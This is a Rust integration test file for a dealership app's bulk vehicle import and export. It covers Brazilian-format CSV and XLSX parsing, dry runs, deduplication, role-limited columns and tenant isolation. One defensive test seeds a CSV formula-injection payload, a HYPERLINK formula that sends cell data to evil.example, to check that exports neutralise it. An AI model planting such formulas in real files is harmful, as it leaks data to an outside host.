//! Bulk import (as background jobs) and export of vehicles.

use axum::http::StatusCode;
use innexar_app::worker;
use innexar_testkit::{TestApp, TestTenant, slug};
use serde_json::{Value, json};

const CSV_HEADER: &str = "Placa;Chassi;Marca;Modelo;Versão;Ano;Cor;Km;Combustível;Câmbio;Condição;Preço;Custo";

/// Uploads `file` and returns the 202 body.
async fn upload(app: &TestApp, t: &TestTenant, name: &str, file: &[u8], dry_run: bool) -> Value {
    let r = app
        .post("/api/v1/vehicles/imports")
        .tenant(&t.slug)
        .token(&t.owner_token)
        .upload(&[("file", Some(name), file), ("dryRun", None, if dry_run { b"true" } else { b"false" })])
        .send()
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.text);
    let id = r.body["id"].as_str().expect("id");
    assert_eq!(r.header("location"), Some(format!("/api/v1/vehicles/imports/{id}").as_str()));
    r.body
}

/// Runs the queued jobs, then reads the import.
async fn finish(app: &TestApp, t: &TestTenant, job: &Value) -> Value {
    let db = app.tenant_db(&t.slug).await;
    worker(&app.state).drain(&db).await.expect("worker");
    let id = job["id"].as_str().expect("id");
    let r = app.get(&format!("/api/v1/vehicles/imports/{id}")).tenant(&t.slug).token(&t.owner_token).send().await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    r.body
}

async fn vehicles(app: &TestApp, t: &TestTenant) -> Value {
    app.get("/api/v1/vehicles?pageSize=100&sort=stockNumber").tenant(&t.slug).token(&t.owner_token).send().await.body
}

fn mixed_csv() -> String {
    [
        CSV_HEADER,
        // 2: good, Brazilian money and km.
        "ABC1D23;9BWZZZ377VT004251;Volkswagen;Polo;1.0 TSI Highline;2023/2024;Prata;21.000 km;Flex;Automático;Usado;R$ 98.900,00;R$ 86.000,00",
        // 3: a VIN with an O.
        "BRA2E19;9BWZZZ377VTO04252;Fiat;Argo;Drive 1.0;2022;Branco;30000;Flex;Manual;Usado;65.990,00;",
        // 4: not an amount, and no model.
        "QWE4R56;;Chevrolet;;LT;2021;Preto;45000;Flex;Manual;Usado;muito;",
        "",
        // 6: good, dot decimals, no placa.
        ";9BD19524SN1234567;Fiat;Toro;Volcano;2024;Vermelho;0;Diesel;Automático;Novo;189990.00;",
        // 7: a placa that is no placa.
        "12345;;Honda;Civic;EXL;2020;Cinza;52000;Flex;CVT;Usado;120000;",
    ]
    .join("\n")
}

#[tokio::test]
async fn a_file_with_good_and_bad_rows_lands_the_good_ones_and_reports_each_bad_one_by_row_and_column() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    let job = upload(&app, &t, "estoque.csv", mixed_csv().as_bytes(), false).await;
    assert_eq!(job["status"], "queued");
    assert_eq!(job["rows"], 5);
    assert_eq!(job["percent"], 0);

    let done = finish(&app, &t, &job).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["percent"], 100);
    assert_eq!((done["created"].as_u64(), done["rejected"].as_u64()), (Some(2), Some(3)), "{done}");
    let errors: Vec<(u64, String, String, String)> = done["errors"]["items"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().expect("row"),
                e["column"].as_str().unwrap_or_default().to_string(),
                e["field"].as_str().unwrap_or_default().to_string(),
                e["code"].as_str().expect("code").to_string(),
            )
        })
        .collect();
    let has = |row: u64, column: &str, code: &str| errors.iter().any(|e| e.0 == row && e.1 == column && e.3 == code);
    assert!(has(3, "Chassi", "vin.invalid_character"), "{errors:?}");
    assert!(has(4, "Preço", "imports.invalid_amount"), "{errors:?}");
    assert!(has(4, "Modelo", "field.required"), "{errors:?}");
    assert!(errors.iter().any(|e| e.0 == 7 && e.1 == "Placa" && e.2 == "placa"), "{errors:?}");
    assert_eq!(done["errors"]["total"], errors.len());

    // The good rows landed whole, parsed the Brazilian way; nothing of the bad ones did.
    let list = vehicles(&app, &t).await;
    assert_eq!(list["total"], 2, "{list}");
    let polo = &list["items"][0];
    assert_eq!(
        (
            &polo["placa"],
            &polo["year"],
            &polo["modelYear"],
            &polo["mileageKm"],
            &polo["priceCents"],
            &polo["costCents"]
        ),
        (&json!("ABC1D23"), &json!(2023), &json!(2024), &json!(21000), &json!(9_890_000), &json!(8_600_000))
    );
    assert_eq!(list["items"][1]["priceCents"], 18_999_000);
    assert_eq!(list["items"][1]["condition"], "new");
    for q in ["BRA2E19", "QWE4R56", "Civic"] {
        let r = app.get(&format!("/api/v1/vehicles?q={q}")).tenant(&t.slug).token(&t.owner_token).send().await;
        assert_eq!(r.body["total"], 0, "{q} must not be half-imported");
    }
    // Each import wrote what the API would: the event, the price history, the audit entry.
    let db = app.tenant_db(&t.slug).await;
    let events = innexar_db::outbox::list(db.conn(), t.id).await.expect("events");
    assert_eq!(events.iter().filter(|e| e.event_type == "vehicle.created").count(), 2);
    let id = polo["id"].as_str().expect("id");
    let h = app.get(&format!("/api/v1/vehicles/{id}/price-history")).tenant(&t.slug).token(&t.owner_token).send().await;
    assert_eq!(h.body["items"][0]["changedByEmail"], t.owner_email);
    let audit = app.get(&format!("/api/v1/audit?entityId={id}")).tenant(&t.slug).token(&t.owner_token).send().await;
    assert_eq!(audit.body["items"][0]["actorEmail"], t.owner_email, "{}", audit.text);
}

#[tokio::test]
async fn a_dry_run_reports_what_would_happen_and_writes_nothing() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    let db = app.tenant_db(&t.slug).await;
    let events_before = innexar_db::outbox::list(db.conn(), t.id).await.expect("events").len();
    let job = upload(&app, &t, "estoque.csv", mixed_csv().as_bytes(), true).await;
    let done = finish(&app, &t, &job).await;
    assert_eq!(done["dryRun"], true);
    assert_eq!((done["created"].as_u64(), done["rejected"].as_u64()), (Some(2), Some(3)), "{done}");
    assert_eq!(vehicles(&app, &t).await["total"], 0);
    assert_eq!(innexar_db::outbox::list(db.conn(), t.id).await.expect("events").len(), events_before);
    // The real run then does what the dry run said.
    let real = finish(&app, &t, &upload(&app, &t, "estoque.csv", mixed_csv().as_bytes(), false).await).await;
    assert_eq!((real["created"].as_u64(), real["rejected"].as_u64()), (Some(2), Some(3)));
}

/// An XLSX as a dealer's spreadsheet has it: numbers as numbers, English headers.
fn xlsx(rows: &[(&str, &str, f64)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in
        ["Plate", "VIN", "Make", "Model", "Year", "Mileage", "Fuel", "Transmission", "Condition", "Price", "Store"]
            .iter()
            .enumerate()
    {
        sheet.write_string(0, c as u16, *h).expect("header");
    }
    for (r, (placa, vin, price)) in rows.iter().enumerate() {
        let r = r as u32 + 1;
        sheet.write_string(r, 0, *placa).expect("cell");
        sheet.write_string(r, 1, *vin).expect("cell");
        sheet.write_string(r, 2, "Toyota").expect("cell");
        sheet.write_string(r, 3, "Corolla").expect("cell");
        sheet.write_number(r, 4, 2022.0).expect("cell");
        sheet.write_number(r, 5, 38000.0).expect("cell");
        sheet.write_string(r, 6, "hybrid").expect("cell");
        sheet.write_string(r, 7, "cvt").expect("cell");
        sheet.write_string(r, 8, "used").expect("cell");
        sheet.write_number(r, 9, *price).expect("cell");
        sheet.write_string(r, 10, "Filial").expect("cell");
    }
    book.save_to_buffer().expect("xlsx")
}

#[tokio::test]
async fn importing_the_same_file_again_updates_by_vin_or_placa_instead_of_duplicating() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    app.store(&t, "Filial").await;
    let first = xlsx(&[("RST3U45", "", 139_990.0), ("", "9BRBZ3BE0N4123456", 145_500.5)]);
    let done = finish(&app, &t, &upload(&app, &t, "estoque.xlsx", &first, false).await).await;
    assert_eq!((done["created"].as_u64(), done["rejected"].as_u64()), (Some(2), Some(0)), "{done}");
    let list = vehicles(&app, &t).await;
    assert_eq!(list["items"][1]["priceCents"], 14_550_050);

    let again = finish(&app, &t, &upload(&app, &t, "estoque.xlsx", &first, false).await).await;
    assert_eq!((again["created"].as_u64(), again["unchanged"].as_u64()), (Some(0), Some(2)), "{again}");

    // A new price for the car matched by placa (written the other way) and one matched by VIN.
    let changed = xlsx(&[("RST-3U45", "", 134_990.0), ("", "9BRBZ3BE0N4123456", 145_500.5)]);
    let third = finish(&app, &t, &upload(&app, &t, "estoque.xlsx", &changed, false).await).await;
    assert_eq!((third["updated"].as_u64(), third["unchanged"].as_u64()), (Some(1), Some(1)), "{third}");
    let list = vehicles(&app, &t).await;
    assert_eq!(list["total"], 2);
    assert_eq!(list["items"][0]["priceCents"], 13_499_000);
    let id = list["items"][0]["id"].as_str().expect("id");
    let h = app.get(&format!("/api/v1/vehicles/{id}/price-history")).tenant(&t.slug).token(&t.owner_token).send().await;
    assert_eq!(h.body["items"].as_array().map(Vec::len), Some(2), "{}", h.text);
    let db = app.tenant_db(&t.slug).await;
    let events = innexar_db::outbox::list(db.conn(), t.id).await.expect("events");
    assert_eq!(events.iter().filter(|e| e.event_type == "vehicle.price_changed").count(), 1);
}

#[tokio::test]
async fn an_exported_file_imports_back_unchanged_and_shows_only_the_columns_the_reader_may_see() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    let store = app.store(&t, "Matriz").await;
    app.store(&t, "Filial Centro").await;
    app.vehicle(
        &t,
        &store,
        json!({"placa": "ABC1D23", "vin": "9BWZZZ377VT004251", "options": ["Teto solar", "Couro"],
        "description": "Único dono; revisões na concessionária\nsem detalhes", "renavam": "01234567897",
        "fipeCode": "005340-6", "fipeValueCents": 9_500_050, "doors": 4, "keysCount": 2, "minPriceCents": 9_000_000,
        "origin": "trade_in", "status": "in_preparation"}),
    )
    .await;
    app.vehicle(&t, &store, json!({"make": "Fiat", "model": "Mobi", "priceCents": null, "condition": "new", "year": 2026, "modelYear": 2026})).await;
    let sales = app.user(&t, "vendas@loja.com.br", &["sales"], None).await;

    for format in ["csv", "xlsx"] {
        let (status, headers, file) = app
            .get(&format!("/api/v1/vehicles/export?format={format}&sort=stockNumber"))
            .tenant(&t.slug)
            .token(&t.owner_token)
            .send_bytes()
            .await;
        assert_eq!(status, StatusCode::OK);
        let disposition = headers.get("content-disposition").and_then(|v| v.to_str().ok()).unwrap_or_default();
        assert!(
            disposition.starts_with("attachment; filename=\"veiculos-")
                && disposition.ends_with(&format!(".{format}\""))
        );
        let done = finish(&app, &t, &upload(&app, &t, &format!("export.{format}"), &file, false).await).await;
        assert_eq!(
            (done["unchanged"].as_u64(), done["created"].as_u64(), done["updated"].as_u64(), done["rejected"].as_u64()),
            (Some(2), Some(0), Some(0), Some(0)),
            "{format}: {done}"
        );
        assert_eq!(done["ignoredColumns"], json!([]), "{format}");
    }
    assert_eq!(vehicles(&app, &t).await["total"], 2);

    let (_, _, owner_csv) =
        app.get("/api/v1/vehicles/export?format=csv").tenant(&t.slug).token(&t.owner_token).send_bytes().await;
    let owner_csv = String::from_utf8(owner_csv).expect("utf-8");
    assert!(owner_csv.contains(";Custo;") && owner_csv.contains("86.000,00"), "{owner_csv}");
    let (status, _, sales_csv) =
        app.get("/api/v1/vehicles/export?format=csv").tenant(&t.slug).token(&sales).send_bytes().await;
    assert_eq!(status, StatusCode::OK);
    let sales_csv = String::from_utf8(sales_csv).expect("utf-8");
    assert!(!sales_csv.contains("Custo") && !sales_csv.contains("Preço mínimo") && !sales_csv.contains("86.000,00"));
    assert!(sales_csv.contains("98.900,00"), "{sales_csv}");

    // The export honours the list's filters.
    let (_, _, only_new) = app
        .get("/api/v1/vehicles/export?format=csv&condition=new")
        .tenant(&t.slug)
        .token(&t.owner_token)
        .send_bytes()
        .await;
    let only_new = String::from_utf8(only_new).expect("utf-8");
    assert!(only_new.contains("Mobi") && !only_new.contains("Polo"), "{only_new}");
    app.get("/api/v1/vehicles/export?format=pdf")
        .tenant(&t.slug)
        .token(&t.owner_token)
        .send()
        .await
        .problem(StatusCode::UNPROCESSABLE_ENTITY, "validation.failed");
}

#[tokio::test]
async fn files_that_cannot_be_imported_are_refused_at_upload_with_a_reason() {
    let app = TestApp::spawn_with(|s| {
        s.imports.max_rows = 2;
        s.imports.max_file_bytes = 4096;
    })
    .await;
    let t = app.tenant(&slug("loja")).await;
    let post = || app.post("/api/v1/vehicles/imports").tenant(&t.slug).token(&t.owner_token);
    let r = post().upload(&[("dryRun", None, b"true")]).send().await;
    assert_eq!(r.problem(StatusCode::UNPROCESSABLE_ENTITY, "validation.failed")["errors"][0]["code"], "field.required");
    let r = post().upload(&[("file", Some("x.csv"), b"Foto;Obs\nx;y\n")]).send().await;
    assert_eq!(r.pointers(), vec!["/file"]);
    assert_eq!(r.body["errors"][0]["code"], "imports.missing_columns");
    let three = format!("{CSV_HEADER}\n{0}\n{0}\n{0}\n", "ABC1D23;;VW;Gol;;2020;;;flex;manual;usado;1;");
    let r = post().upload(&[("file", Some("x.csv"), three.as_bytes())]).send().await;
    assert_eq!(r.body["errors"][0]["code"], "imports.too_many_rows", "{}", r.text);
    let r = post().upload(&[("file", Some("x.xlsx"), b"PK\x03\x04 not really a workbook")]).send().await;
    assert_eq!(r.body["errors"][0]["code"], "imports.unreadable_file", "{}", r.text);
    let big = vec![b'a'; 5000];
    post()
        .upload(&[("file", Some("x.csv"), &big)])
        .send()
        .await
        .problem(StatusCode::PAYLOAD_TOO_LARGE, "imports.file_too_large");
    post()
        .json(json!({"file": "x"}))
        .send()
        .await
        .problem(StatusCode::UNSUPPORTED_MEDIA_TYPE, "http.unsupported_media_type");
    // Nothing was queued.
    let db = app.tenant_db(&t.slug).await;
    assert_eq!(worker(&app.state).drain(&db).await.expect("drain"), 0);
}

#[tokio::test]
async fn an_import_is_seen_only_by_its_tenant_and_not_by_store_limited_colleagues() {
    let app = TestApp::spawn().await;
    let a = app.tenant(&slug("a")).await;
    let b = app.tenant(&slug("b")).await;
    let store = app.store(&b, "Matriz").await;
    let job = upload(&app, &b, "estoque.csv", mixed_csv().as_bytes(), true).await;
    let id = job["id"].as_str().expect("id");
    app.get(&format!("/api/v1/vehicles/imports/{id}"))
        .tenant(&a.slug)
        .token(&a.owner_token)
        .send()
        .await
        .problem(StatusCode::NOT_FOUND, "imports.not_found");
    let limited = app.user(&b, "gerente@b.com.br", &["store_manager"], Some(vec![store])).await;
    app.get(&format!("/api/v1/vehicles/imports/{id}"))
        .tenant(&b.slug)
        .token(&limited)
        .send()
        .await
        .problem(StatusCode::NOT_FOUND, "imports.not_found");
    // A's worker has nothing to run; B's job is B's.
    let a_db = app.tenant_db(&a.slug).await;
    assert_eq!(worker(&app.state).drain(&a_db).await.expect("drain"), 0);
}

#[tokio::test]
async fn a_job_left_running_by_a_stopped_worker_is_run_again_once_it_goes_quiet() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    let job = upload(&app, &t, "estoque.csv", mixed_csv().as_bytes(), false).await;
    let id: uuid::Uuid = job["id"].as_str().expect("id").parse().expect("uuid");
    let db = app.tenant_db(&t.slug).await;
    // A worker takes the job and dies without a word.
    assert!(innexar_jobs::runs::claim(db.conn(), id, app.state.clock.now()).await.expect("claim"));
    let w = worker(&app.state);
    assert_eq!(w.step(&db).await.expect("step"), None, "a job with a live worker is left alone");
    let seen = app.get(&format!("/api/v1/vehicles/imports/{id}")).tenant(&t.slug).token(&t.owner_token).send().await;
    assert_eq!(seen.body["status"], "running");
    app.clock.advance(chrono::Duration::minutes(6));
    assert_eq!(w.step(&db).await.expect("step"), Some(id));
    let done = finish(&app, &t, &job).await;
    assert_eq!((done["status"].as_str(), done["created"].as_u64()), (Some("succeeded"), Some(2)), "{done}");
}

#[tokio::test]
async fn a_csv_export_never_starts_a_cell_with_a_formula_and_still_imports_back_unchanged() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    let store = app.store(&t, "Matriz").await;
    // What a Sales user may type into the free-text fields.
    let hostile = json!({"description": "=HYPERLINK(\"https://evil.example/?\"&A1,\"clique\")", "color": "+55 11 9999",
        "lotLocation": "@SUM(1+1)", "interiorColor": "-2+3", "trim": "'=já neutralizada"});
    app.vehicle(&t, &store, hostile.clone()).await;
    let (status, _, file) =
        app.get("/api/v1/vehicles/export?format=csv").tenant(&t.slug).token(&t.owner_token).send_bytes().await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(file.clone()).expect("utf-8");
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let row = reader.records().next().expect("a row").expect("record");
    for (header, cell) in headers.iter().zip(row.iter()) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{header} starts a formula: {cell:?}");
    }
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect("cell").to_string();
    assert_eq!(cell("Descrição"), format!("'{}", hostile["description"].as_str().expect("text")));
    assert_eq!(cell("Versão"), "''=já neutralizada");

    let done = finish(&app, &t, &upload(&app, &t, "export.csv", &file, false).await).await;
    assert_eq!((done["unchanged"].as_u64(), done["rejected"].as_u64()), (Some(1), Some(0)), "{done}");
    let v = &vehicles(&app, &t).await["items"][0];
    for field in ["description", "color", "lotLocation", "interiorColor", "trim"] {
        assert_eq!(v[field], hostile[field], "{field}");
    }
}

#[tokio::test]
async fn a_refused_row_names_its_column_cell_and_vehicle_and_the_refused_rows_download_to_fix_and_import_again() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    let mut file = mixed_csv();
    // 8: a model year two years after manufacture, read from the "Ano" column.
    file.push_str("\nKLM3N45;;Toyota;Corolla;XEi;2022/2025;Preto;1000;Flex;CVT;Usado;150000;");
    let done = finish(&app, &t, &upload(&app, &t, "estoque.csv", file.as_bytes(), false).await).await;
    assert_eq!(done["rejected"], 4, "{done}");
    let errors = done["errors"]["items"].as_array().expect("errors");
    assert!(errors.iter().all(|e| e["column"].is_string()), "every problem names its column: {errors:?}");
    let vin = errors.iter().find(|e| e["code"] == "vin.invalid_character").expect("vin error");
    assert_eq!(
        (&vin["column"], &vin["value"], &vin["placa"]),
        (&json!("Chassi"), &json!("9BWZZZ377VTO04252"), &json!("BRA2E19"))
    );
    let amount = errors.iter().find(|e| e["code"] == "imports.invalid_amount").expect("amount error");
    assert_eq!((&amount["value"], &amount["placa"]), (&json!("muito"), &json!("QWE4R56")));
    let year = errors.iter().find(|e| e["code"] == "vehicles.invalid_model_year").expect("model year error");
    assert_eq!(
        (&year["column"], &year["value"], &year["row"]),
        (&json!("Ano"), &json!("2022/2025"), &json!(8)),
        "{year}"
    );

    let id = done["id"].as_str().expect("id");
    let (status, headers, csv) = app
        .get(&format!("/api/v1/vehicles/imports/{id}/rejected?format=csv"))
        .tenant(&t.slug)
        .token(&t.owner_token)
        .send_bytes()
        .await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&csv));
    assert!(headers["content-disposition"].to_str().expect("name").contains("linhas-rejeitadas"));
    let text = String::from_utf8(csv).expect("utf-8");
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 5, "the header and the four refused rows: {text}");
    assert!(lines[0].ends_with(";Problemas"), "{}", lines[0]);
    assert!(
        lines[1].starts_with("BRA2E19;") && lines[1].contains("Chassi: o chassi usa números e letras"),
        "{}",
        lines[1]
    );
    assert!(lines[4].contains("Ano: o ano modelo é o de fabricação ou o seguinte"), "{}", lines[4]);
    assert!(!text.contains("9BWZZZ377VT004251"), "rows that landed are not in it: {text}");

    // The XLSX of the same rows imports again as it is: the same rows are refused, for the same reasons.
    let (status, _, xlsx) = app
        .get(&format!("/api/v1/vehicles/imports/{id}/rejected?format=xlsx"))
        .tenant(&t.slug)
        .token(&t.owner_token)
        .send_bytes()
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(xlsx.starts_with(b"PK"), "an XLSX is a zip");
    let again = finish(&app, &t, &upload(&app, &t, "rejeitadas.xlsx", &xlsx, true).await).await;
    assert_eq!((again["rejected"].as_u64(), again["created"].as_u64()), (Some(4), Some(0)), "{again}");
    assert_eq!(again["ignoredColumns"], json!(["Problemas"]));

    // Fixed and sent again, they land.
    let fixed = [
        CSV_HEADER,
        "BRA2E19;9BWZZZ377VT004252;Fiat;Argo;Drive 1.0;2022;Branco;30000;Flex;Manual;Usado;65.990,00;",
        "KLM3N45;;Toyota;Corolla;XEi;2022/2023;Preto;1000;Flex;CVT;Usado;150000;",
    ]
    .join("\n");
    let landed = finish(&app, &t, &upload(&app, &t, "corrigidas.csv", fixed.as_bytes(), false).await).await;
    assert_eq!((landed["created"].as_u64(), landed["rejected"].as_u64()), (Some(2), Some(0)), "{landed}");

    let r = app
        .get(&format!("/api/v1/vehicles/imports/{id}/rejected?format=pdf"))
        .tenant(&t.slug)
        .token(&t.owner_token)
        .send()
        .await;
    assert!(r.status.is_client_error() && !r.status.is_server_error(), "{}", r.text);
}

#[tokio::test]
async fn a_cell_that_cannot_be_read_is_reported_once() {
    let app = TestApp::spawn().await;
    let t = app.tenant(&slug("loja")).await;
    app.store(&t, "Matriz").await;
    let file = [CSV_HEADER, "WSX2R34;;Fiat;Argo;Drive;dois mil;Branco;1000;Flex;Manual;Usado;65.990,00;"].join("\n");
    let done = finish(&app, &t, &upload(&app, &t, "estoque.csv", file.as_bytes(), true).await).await;
    let errors = done["errors"]["items"].as_array().expect("errors");
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(
        (&errors[0]["code"], &errors[0]["column"], &errors[0]["value"]),
        (&json!("imports.invalid_year"), &json!("Ano"), &json!("dois mil"))
    );
}
